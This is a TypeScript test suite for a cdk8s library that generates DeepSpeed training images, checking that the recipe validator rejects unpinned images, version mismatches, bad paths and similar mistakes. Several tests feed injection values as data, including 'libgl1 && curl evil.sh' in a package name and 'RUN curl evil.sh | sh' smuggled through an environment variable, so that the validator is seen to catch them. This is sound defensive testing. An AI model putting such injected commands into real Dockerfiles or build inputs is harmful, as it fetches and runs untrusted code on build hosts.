import { Chart, Testing } from 'cdk8s';
import {
  BakedData, BaseImage, CudaImageFlavor, DeepSpeedMpiJob, DeepSpeedOp, DeepSpeedTrainingImage, ImageUser, MpiInstallation,
  SourceCode, Validation,
} from '../src';
import { imageTag } from '../src/validation/image-rules';
import { BASE_RECIPE, imageFindings, imageRecipe, synthError } from './support/synth';
import { expectWarnings } from './support/warnings';

const RUNTIME = BaseImage.pytorch({ torchVersion: '2.4.1', cudaVersion: '12.4', cudnnVersion: '9', flavor: CudaImageFlavor.RUNTIME });

describe('image recipe validation', () => {
  test('a valid recipe has no findings', () => {
    expect(imageFindings(imageRecipe().image)).toEqual([]);
  });

  test('imageTag reads tags after the last path segment, digests pin', () => {
    expect(imageTag('registry:5000/team/train')).toBe('latest');
    expect(imageTag('registry:5000/team/train:v1')).toBe('v1');
    expect(imageTag('train@sha256:abc')).toBeUndefined();
  });

  test('DeepSpeedOp.ALL pre-builds every op but the CPU ops, which would carry the build host\'s -march=native', () => {
    const all = imageRecipe({ prebuiltOps: [DeepSpeedOp.ALL] }).image;
    expect(imageFindings(all)).toEqual([]);
    expect(all.dockerfile).toContain('RUN DS_BUILD_OPS=1 DS_BUILD_CPU_ADAM=0 DS_BUILD_CPU_ADAGRAD=0 DS_BUILD_CPU_LION=0 DS_BUILD_AIO=0 DS_BUILD_GDS=0 ');
    expect(all.dockerfile).toContain('# Not the CPU ops: DeepSpeed compiles them for the build host\'s CPU (-march=native), so they compile at first use on each node.');
    // A CPU op listed as well is built, and reported.
    const withCpuAdam = imageRecipe({ prebuiltOps: [DeepSpeedOp.ALL, DeepSpeedOp.CPU_ADAM] }).image;
    expect(withCpuAdam.dockerfile).toContain('RUN DS_BUILD_OPS=1 DS_BUILD_CPU_ADAM=1 DS_BUILD_CPU_ADAGRAD=0 DS_BUILD_CPU_LION=0 DS_BUILD_AIO=0 DS_BUILD_GDS=0 ');
  });

  test('pre-built CPU ops are a warning unless the build host is declared the baseline; the declaration alone is one too', () => {
    expect(imageFindings(imageRecipe({ prebuiltOps: [DeepSpeedOp.FUSED_ADAM, DeepSpeedOp.CPU_ADAM, DeepSpeedOp.AIO] }).image)).toEqual([
      'warning: test/image: prebuiltOps is ["CPU_ADAM","AIO"]: DeepSpeed 0.16 compiles CPU ops with -march=native and the SIMD width (AVX-512, AVX2) of the machine '
      + 'that builds the image, so on a node with an older CPU they crash with SIGILL (illegal instruction, DeepSpeed issue #1886). Remove them from prebuiltOps '
      + '(they then compile at first use on each node, for its CPU), or build the image on the oldest CPU generation of the training nodes '
      + '(InClusterImageBuild nodeSelector) and set allowBuildHostCpuOps: true.',
    ]);
    expect(imageFindings(imageRecipe({ prebuiltOps: [DeepSpeedOp.CPU_ADAM], allowBuildHostCpuOps: true }).image)).toEqual([]);
    expect(imageFindings(imageRecipe({ prebuiltOps: [DeepSpeedOp.FUSED_ADAM], allowBuildHostCpuOps: true }).image)).toEqual([
      'warning: test/image: allowBuildHostCpuOps is true: prebuiltOps lists no CPU op (CPU_ADAM, CPU_ADAGRAD, CPU_LION, AIO), so the setting does nothing. '
      + 'Remove allowBuildHostCpuOps, or list the CPU ops to pre-build.',
    ]);
  });

  test('an unpinned or latest base image is an error', () => {
    const untagged = BaseImage.fromReference('nvidia/cuda', { cudaVersion: '12.4', flavor: CudaImageFlavor.DEVEL, torch: { version: '2.4.1', cudaVersion: '12.4' } });
    expect(imageFindings(imageRecipe({ baseImage: untagged }).image)).toEqual([
      'error: test/image: baseImage is \'nvidia/cuda\': the `latest` tag moves, so two builds of the same recipe get different CUDA, torch and OS versions. '
      + 'Pin a tag such as \'pytorch/pytorch:2.4.1-cuda12.4-cudnn9-devel\' or a digest.',
    ]);
  });

  test('the stale deepspeed/deepspeed:latest base is an error and a warning', () => {
    const stale = BaseImage.fromReference('deepspeed/deepspeed:latest', {
      cudaVersion: '11.7', flavor: CudaImageFlavor.DEVEL, torch: { version: '1.12.1', cudaVersion: '11.7' },
    });
    expect(imageFindings(imageRecipe({ baseImage: stale }).image)).toEqual([
      expect.stringMatching(/^error: test\/image: baseImage is 'deepspeed\/deepspeed:latest': the `latest` tag moves/),
      'warning: test/image: baseImage is \'deepspeed/deepspeed:latest\': the Docker Hub deepspeed/deepspeed images are not built by DeepSpeed\'s CI '
      + 'and ship old torch and DeepSpeed versions. Use BaseImage.pytorch() or BaseImage.nvidiaCuda() and set deepspeedVersion.',
    ]);
  });

  test('a reference the runtime cannot parse is one error, at the recipe, also when a job runs the image', () => {
    const { chart, image } = imageRecipe({ imageRef: 'registry.example.com/Team/train:v1' });
    const expected = 'test/image: imageRef is \'registry.example.com/Team/train:v1\': docker build -t and the container runtime parse it as [registry/]repository[:tag][@digest] '
      + 'with a lowercase repository and no spaces, so the build cannot tag the image and the kubelet fails every pod with InvalidImageName. '
      + 'Write the reference as the registry shows it, e.g. \'registry.example.com/team/train:v1\'.';
    expect(imageFindings(image)).toEqual([`error: ${expected}`]);
    const job = new DeepSpeedMpiJob(chart, 'train', { image, workers: { replicas: 2, gpusPerWorker: 1 }, script: 'train.py' });
    expect(Validation.validateJob(job).filter(f => f.message.includes('imageRef'))).toEqual([]);
  });

  test('a user id the build cannot create', () => {
    expect(imageFindings(imageRecipe({ user: ImageUser.nonRoot({ uid: -1 }) }).image)).toEqual([
      'error: test/image: user uid is -1: useradd --uid takes a whole id from 0 to 2147483647 and fails the build on -1, and the pods\' runAsUser must be one too. Use an id such as 1000, the MPI Operator base image\'s.',
    ]);
  });

  test('pushing to latest is an error; a digest or tag is fine', () => {
    expect(imageFindings(imageRecipe({ imageRef: 'registry.example.com/train' }).image)).toEqual([
      'error: test/image: imageRef is \'registry.example.com/train\': the kubelet pulls `latest` again whenever a pod starts, '
      + 'so the launcher and the workers of one job can run different builds. Tag the image, e.g. \'registry.example.com/train:v1\' or the git commit of the code.',
    ]);
    expect(imageFindings(imageRecipe({ imageRef: 'registry.example.com:5000/train:v2' }).image)).toEqual([]);
  });

  test('a version range or wildcard for any Python package is an error', () => {
    const { image } = imageRecipe({ deepspeedVersion: '>=0.16', pipPackages: { pillow: '10.*', matplotlib: '3.9.2' } });
    expect(imageFindings(image)).toEqual([
      'error: test/image: deepspeedVersion is \'>=0.16\': pip would install whatever matches when the image is built, '
      + 'so rebuilding the same recipe changes the image. Set an exact version such as \'3.9.2\'.',
      'error: test/image: pipPackages.pillow is \'10.*\': pip would install whatever matches when the image is built, '
      + 'so rebuilding the same recipe changes the image. Set an exact version such as \'3.9.2\'.',
    ]);
  });

  test('torch and friends in pipPackages, or a name with a specifier, are errors', () => {
    const { image } = imageRecipe({ pipPackages: { 'Torch': '2.4.1', 'numpy<2': '1.26.4' } });
    expect(imageFindings(image)).toEqual([
      'error: test/image: pipPackages.Torch is \'2.4.1\': Torch is installed by the recipe itself, in the order torch, mpi4py, DeepSpeed. '
      + 'Remove it from pipPackages and set torch.version.',
      'error: test/image: pipPackages is \'numpy<2\': pip would not read it as a single project name. '
      + 'Use the project name as on PyPI, e.g. \'pillow\', without extras or version specifiers.',
    ]);
  });

  test('a base without torch needs torch', () => {
    const { image } = imageRecipe({ baseImage: BaseImage.nvidiaCuda({ cudaVersion: '12.4.1', operatingSystem: 'ubuntu22.04' }) });
    expect(imageFindings(image)).toEqual([
      'error: test/image: torch is not set: DeepSpeed needs torch and the base image nvidia/cuda:12.4.1-devel-ubuntu22.04 does not ship it. '
      + 'Set torch: { version: \'2.4.1\', cudaVersion: \'12.4\' }, or use BaseImage.pytorch().',
    ]);
  });

  test('torch built for another CUDA major than the toolkit is an error', () => {
    const { image } = imageRecipe({
      baseImage: BaseImage.nvidiaCuda({ cudaVersion: '12.2.2', operatingSystem: 'ubuntu22.04' }),
      torch: { version: '1.13.0', cudaVersion: '11.7' },
    });
    expect(imageFindings(image)).toEqual([
      'error: test/image: torch.cudaVersion is \'11.7\' but the base image\'s CUDA toolkit is \'12.2.2\': DeepSpeed\'s op builder refuses to compile ops '
      + '("Installed CUDA version 12.2 does not match the version torch was compiled with 11.7"), so FusedAdam and the other CUDA ops fail. '
      + 'Use torch wheels built for CUDA 12.2 (torch.cudaVersion: \'12.2\'), or a base image with CUDA 11.7.',
    ]);
  });

  test('a CUDA minor mismatch passes only inside DeepSpeed\'s tolerated range', () => {
    const base = (cudaVersion: string) => BaseImage.nvidiaCuda({ cudaVersion, operatingSystem: 'ubuntu22.04' });
    expect(imageFindings(imageRecipe({ baseImage: base('12.6.3'), torch: { version: '2.4.1', cudaVersion: '12.4' } }).image)).toEqual([]);
    expect(imageFindings(imageRecipe({ baseImage: base('12.9.1'), torch: { version: '2.8.0', cudaVersion: '12.8' } }).image)).toEqual([
      expect.stringContaining('error: test/image: torch.cudaVersion is \'12.8\' but the base image\'s CUDA toolkit is \'12.9.1\''),
    ]);
  });

  test('a runtime base warns without pre-built ops and fails with them', () => {
    expect(imageFindings(imageRecipe({ baseImage: RUNTIME }).image)).toEqual([
      'warning: test/image: baseImage is \'pytorch/pytorch:2.4.1-cuda12.4-cudnn9-runtime\': DeepSpeed compiles CUDA ops such as FusedAdam '
      + '(optimizer type Adam) with nvcc at first use, and a runtime image has no nvcc, so such jobs fail at start. '
      + 'Use the -devel variant of the base image and optionally prebuiltOps, or only use optimizers that need no DeepSpeed op (e.g. params.torch_adam: true).',
    ]);
    expect(imageFindings(imageRecipe({ baseImage: RUNTIME, prebuiltOps: [DeepSpeedOp.FUSED_ADAM] }).image)).toEqual([
      'error: test/image: prebuiltOps is ["FUSED_ADAM"]: compiling DeepSpeed ops needs nvcc, which the runtime base image '
      + '\'pytorch/pytorch:2.4.1-cuda12.4-cudnn9-runtime\' lacks, so the image build fails. Use the -devel variant of the base image (flavor: CudaImageFlavor.DEVEL).',
    ]);
  });

  test('a git source must be pinned to a commit and carry no credentials', () => {
    const { image } = imageRecipe({ source: SourceCode.fromGitRepository('https://bot:ghp_secret@github.com/org/train.git', 'main') });
    expect(imageFindings(image)).toEqual([
      'error: test/image: source.commit is \'main\': branches and tags move, so rebuilding the same recipe would check out different code. '
      + 'Pin a commit id, e.g. \'0e0e2ef307dd3d0298b96c4bffea37f6701aee3e\'.',
      'error: test/image: source.gitRepository is <a URL with credentials>: the URL would be stored in the image\'s build history, '
      + 'where everyone who can pull the image can read it. Use a public URL, or build from a local checkout with SourceCode.fromBuildContext().',
    ]);
    expect(image.source!.destination).toBe('/opt/train');
  });

  test('paths must be absolute or resolve against a working directory', () => {
    const { image } = imageRecipe({
      workingDirectory: 'opt/run',
      source: SourceCode.fromBuildContext('.', { destination: 'app' }),
    });
    expect(imageFindings(image)).toEqual([
      'error: test/image: workingDirectory is \'opt/run\': Docker resolves it against whatever directory the base image left as WORKDIR. Use an absolute path, e.g. \'/opt/run\'.',
      'error: test/image: source.destination is \'app\': Docker resolves it against whatever directory the base image left as WORKDIR. Use an absolute path, e.g. \'/app\'.',
    ]);
    expect(imageFindings(imageRecipe({ data: [BakedData.torchvisionDataset('CIFAR10', 'data')] }).image)).toEqual([
      'error: test/image: data[0].destination is \'data\': a relative destination resolves against the working directory, and the recipe has none. '
      + 'Use an absolute destination, or set workingDirectory (or a source).',
    ]);
  });

  test('data needs its context, its checksum and a real dataset class', () => {
    const { image } = imageRecipe({
      workingDirectory: '/opt/run',
      data: [
        BakedData.fromBuildContext('datasets', 'data'),
        BakedData.fromUrl('https://example.com/d.bin', 'd.bin', { sha256: 'abc' }),
        BakedData.torchvisionDataset('CIFAR10; import os', 'data'),
      ],
    });
    expect(imageFindings(image)).toEqual([
      'error: test/image: data[0] is BakedData.fromBuildContext(\'datasets\'): the Dockerfile is built without a local build context, so COPY finds nothing. '
      + 'Use SourceCode.fromBuildContext() as the source, or BakedData.fromUrl().',
      'error: test/image: data[1].sha256 is \'abc\': without the file\'s checksum a changed download goes unnoticed and the image is not reproducible. '
      + 'Set the 64-hex-digit SHA-256 of the file (sha256sum <file>).',
      'error: test/image: data[2] is BakedData.torchvisionDataset(\'CIFAR10; import os\'): it is not a class name in torchvision.datasets. Use a class name such as \'CIFAR10\'.',
    ]);
  });

  test('apt names, CUDA architectures, variable names and the image name are checked', () => {
    const { image } = imageRecipe({
      systemPackages: ['libgl1 && curl evil.sh'],
      cudaArchitectures: ['sm_80'],
      environment: { 'NCCL-DEBUG': 'INFO' },
      name: 'Train_Image',
    });
    expect(imageFindings(image)).toEqual([
      'error: test/image: systemPackages[0] is \'libgl1 && curl evil.sh\': apt-get would not read it as one package name. '
      + 'Use a Debian package name such as \'libgl1\', optionally \'name=version\'.',
      'error: test/image: cudaArchitectures[0] is \'sm_80\': torch\'s extension builder only reads compute capabilities in TORCH_CUDA_ARCH_LIST. '
      + 'Use compute capabilities such as \'8.0\', \'9.0\' or \'8.6+PTX\'.',
      'error: test/image: environment is \'NCCL-DEBUG\': mpirun cannot forward it to the ranks, which only accept shell variable names. '
      + 'Use letters, digits and \'_\', not starting with a digit.',
      'error: test/image: name is \'Train_Image\': it names the build directory and, with a suffix, the in-cluster build Job, '
      + 'which Kubernetes requires to be a DNS label. Use at most 50 lowercase letters, digits and \'-\', e.g. \'cifar10-image\'.',
    ]);
  });

  test('an Intel MPI version or a user that apt-get and useradd would reject is an error', () => {
    const { image } = imageRecipe({ mpi: MpiInstallation.intel({ version: 'latest' }), user: ImageUser.nonRoot({ name: 'MPI User' }) });
    expect(imageFindings(image)).toEqual([
      'error: test/image: mpi is MpiInstallation.intel({ version: \'latest\' }): Intel\'s repository names its packages '
      + 'intel-oneapi-mpi-devel-<year>.<minor>, so apt-get finds no such package. Use a version such as \'2021.14\'.',
      'error: test/image: user is ImageUser.nonRoot({ name: \'MPI User\', home: \'/home/MPI User\' }): useradd only accepts lowercase login names '
      + 'and an absolute home directory. Use a name such as \'mpiuser\' and a home such as \'/home/mpiuser\'.',
    ]);
  });

  test('two recipes writing to the same directory is an error on both', () => {
    const app = Testing.app();
    const a = new DeepSpeedTrainingImage(new Chart(app, 'a'), 'image', { ...BASE_RECIPE, name: 'train' });
    const b = new DeepSpeedTrainingImage(new Chart(app, 'b'), 'image', { ...BASE_RECIPE, name: 'train' });
    expect(imageFindings(a)).toEqual([
      'error: a/image: name is \'train\': b/image writes its Dockerfile to the same directory, images/train/. Give one of the images another name.',
    ]);
    expect(imageFindings(b)).toEqual([expect.stringContaining('a/image writes its Dockerfile to the same directory')]);
  });

  test('a line break in text that reaches the Dockerfile is an error, not a new instruction', () => {
    const { image } = imageRecipe({ workingDirectory: '/opt/run', environment: { NOTE: 'a\nRUN curl evil.sh | sh' } });
    expect(imageFindings(image)).toEqual([
      'error: test/image: environment.NOTE is "a\\nRUN curl evil.sh | sh": a line break would end the Dockerfile instruction '
      + 'and turn the rest into another instruction. Remove the line break.',
    ]);
  });

  test('a non-root sshd cannot bind a privileged port; root can', () => {
    expect(imageFindings(imageRecipe({ sshPort: 22 }).image)).toEqual([
      'error: test/image: sshPort is 22: sshd runs as mpiuser (uid 1000) without capabilities and cannot bind a port below 1024. '
      + 'Use a port from 1024 to 65535, such as the default 2222.',
    ]);
    expect(imageFindings(imageRecipe({ sshPort: 22, user: ImageUser.root() }).image)).toEqual([]);
    expect(imageFindings(imageRecipe({ sshPort: 70000 }).image)).toEqual([
      'error: test/image: sshPort is 70000: it is not a TCP port. Use a port from 1024 to 65535, such as the default 2222.',
    ]);
  });

  test('errors fail app.synth() with the construct path; warnings fail only in strict mode', () => {
    const { app } = imageRecipe({ imageRef: 'registry.example.com/train:latest' });
    expect(synthError(app)).toContain('[test/image] imageRef is \'registry.example.com/train:latest\'');

    expect(synthError(imageRecipe({ baseImage: RUNTIME }).app)).toBeUndefined();
    expectWarnings('test/image: baseImage is \'pytorch/pytorch:2.4.1-cuda12.4-cudnn9-runtime\'');
    const strict = Testing.app();
    strict.node.setContext(Validation.WARNINGS_AS_ERRORS_CONTEXT, true);
    new DeepSpeedTrainingImage(new Chart(strict, 'test'), 'image', { ...BASE_RECIPE, baseImage: RUNTIME });
    expect(synthError(strict)).toContain('[test/image] baseImage is \'pytorch/pytorch:2.4.1-cuda12.4-cudnn9-runtime\'');
  });
});
